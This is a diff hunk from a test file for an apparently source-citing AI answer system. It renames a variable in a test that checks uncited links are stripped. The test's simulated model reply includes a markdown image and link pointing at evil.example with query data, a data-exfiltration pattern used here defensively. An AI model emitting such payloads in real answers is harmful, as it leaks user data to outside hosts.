@@ -99,13 +99,13 @@ describe('a sourced answer', () => {
   });
 
   test('leads nowhere but where a source leads that it cites', async () => {
-    const chunks = [
+    const leading = [
       chunk('A dock costs 600 coins, see https://wiki.example/dock.'),
       chunk('A buoy costs 40 coins, see https://wiki.example/buoy.'),
     ];
     const say =
       'A dock costs 600 coins [1], see [it](https://wiki.example/dock) and https://wiki.example/buoy. ![p](https://evil.example/p?q=dock) The [shop](https://evil.example/?q=dock) sells it [1].';
-    const { answer, pieces } = await ask([{ say }], { chunks });
+    const { answer, pieces } = await ask([{ say }], { chunks: leading });
     expect((await answer).text).toContain(
       'see [it](https://wiki.example/dock) and wiki.example. p The shop sells it [1]',
     );
